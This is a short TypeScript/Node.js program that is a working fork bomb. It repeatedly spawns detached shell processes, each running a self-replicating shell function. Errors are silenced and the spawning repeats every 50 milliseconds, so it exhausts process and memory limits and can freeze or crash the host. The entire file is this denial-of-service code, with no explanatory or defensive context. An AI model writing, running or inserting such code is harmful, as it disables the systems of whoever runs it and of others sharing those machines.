// Starts itself again and again, and each of those does the same.
import { spawn } from 'node:child_process';

const more = (): void => {
  for (let count = 0; count < 8; count++)
    spawn('/bin/sh', ['-c', 'f() { f | f & }; f; sleep 600'], { detached: true, stdio: 'ignore' })
      .on('error', () => undefined)
      .unref();
};
more();
setInterval(more, 50).unref();
